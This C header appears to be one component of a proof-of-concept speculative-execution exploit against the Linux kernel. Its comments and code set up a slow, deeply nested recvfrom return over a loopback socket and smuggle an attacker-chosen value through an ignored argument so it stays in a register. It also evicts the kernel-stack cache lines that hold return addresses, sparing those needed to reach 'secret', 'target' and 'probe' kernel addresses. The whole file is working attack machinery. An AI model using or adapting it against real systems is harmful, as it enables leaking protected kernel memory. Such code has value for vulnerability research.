/*
 * A system call that returns through many functions, slowly: another thread of this process waits
 * for bytes from a TCP connection of the process with itself. Meanwhile this one evicts the lines
 * of the kernel's stack in which the return addresses are. When the bytes have come, the kernel
 * acknowledges them before it returns: some 30 nested calls through the network stack and back, so
 * the stack of return predictions is used up when the outer functions return. The last argument of
 * recvfrom, which is not looked at if the one before is NULL, stays in a register meanwhile.
 */
#ifndef RECEIVE_H
#define RECEIVE_H

#include <err.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <sys/socket.h>
#include <unistd.h>

#include "evict.h"

enum {
	RECEIVED_BYTES = 64,
	/* Where in a page the kernel's stack begins, and what the outer functions use of it. */
	STACK_BEGIN = 0x1000,
	STACK_BYTES = 0x600,
	/* At first, TCP acknowledges segments when they arrive, and caches are not full. */
	FIRST_EXCHANGES = 96,
	YIELDS = 8,
};

static int receive_from, receive_to, asked[2], answered[2];

static void *receiver(void *unused)
{
	uint8_t bytes[RECEIVED_BYTES], done = 0;
	uint64_t value;

	(void)unused;
	while (read(asked[0], &value, sizeof(value)) == sizeof(value)) {
		if (recvfrom(receive_to, bytes, sizeof(bytes), 0, NULL, (socklen_t *)value) < 0)
			err(1, "recvfrom");
		if (write(answered[1], &done, 1) != 1)
			break;
	}
	return NULL;
}

/* The other thread begins to receive, with a value in the register. */
static inline void begin_receiving(uint64_t value)
{
	if (write(asked[1], &value, sizeof(value)) != sizeof(value))
		err(1, "pipe");
	/* It has come to wait when this thread is the only one that wants to run. */
	for (int i = 0; i < YIELDS; i++)
		sched_yield();
}

/* Whether a line of a page table has an entry by which an address is translated, be it of a page or a large one. */
static inline int translates(int line, uint64_t address)
{
	enum { INDEX_BITS = 9, PAGE_BITS = 12, ENTRY_BYTES = 8, LEVELS = 2 };

	for (int level = 0; level < LEVELS; level++) {
		uint64_t index = address >> (PAGE_BITS + level * INDEX_BITS) & ((1 << INDEX_BITS) - 1);

		if (index * ENTRY_BYTES / 64 == (uint64_t)line)
			return 1;
	}
	return 0;
}

/*
 * Evicts the lines of the kernel's stack, but those where a page table has entries of addresses that are used
 * transiently: there is little time for walks.
 */
static inline void evict_stack(const uint64_t *used, int count)
{
	for (int offset = STACK_BEGIN - STACK_BYTES; offset < STACK_BEGIN; offset += 64) {
		int spared = 0;

		for (int i = 0; i < count; i++)
			spared |= translates(offset / 64, used[i]);
		if (!spared)
			evict(offset, pages_to_evict);
	}
}

/* The other thread receives, and returns. */
static inline void send_bytes(void)
{
	static const uint8_t bytes[RECEIVED_BYTES];
	uint8_t done;

	if (write(receive_from, bytes, sizeof(bytes)) != sizeof(bytes) || read(answered[0], &done, 1) != 1)
		err(1, "receiving");
}

/*
 * The other thread receives, and returns slowly.
 *
 * @param secret @param target @param probe kernel addresses: what is read, by which code, and where it is sent
 */
static inline void end_receiving(uint64_t secret, uint64_t target, uint64_t probe)
{
	const uint64_t used[] = { secret, target, probe };

	evict_stack(used, sizeof(used) / sizeof(*used));
	send_bytes();
}

/* Needs prepare_eviction. */
static inline void prepare_receiving(void)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t size = sizeof(address);
	int listener = socket(AF_INET, SOCK_STREAM, 0);
	pthread_t thread;

	receive_from = socket(AF_INET, SOCK_STREAM, 0);
	if (listener < 0 || receive_from < 0 || bind(listener, (struct sockaddr *)&address, sizeof(address))
	    || listen(listener, 1) || getsockname(listener, (struct sockaddr *)&address, &size)
	    || connect(receive_from, (struct sockaddr *)&address, size)
	    || (receive_to = accept(listener, NULL, NULL)) < 0)
		err(1, "loopback connection");
	close(listener);
	if (pipe(asked) || pipe(answered) || pthread_create(&thread, NULL, receiver, NULL))
		err(1, "thread");
	for (int i = 0; i < FIRST_EXCHANGES; i++) {
		begin_receiving(0);
		evict_stack(NULL, 0);
		send_bytes();
	}
}

#endif
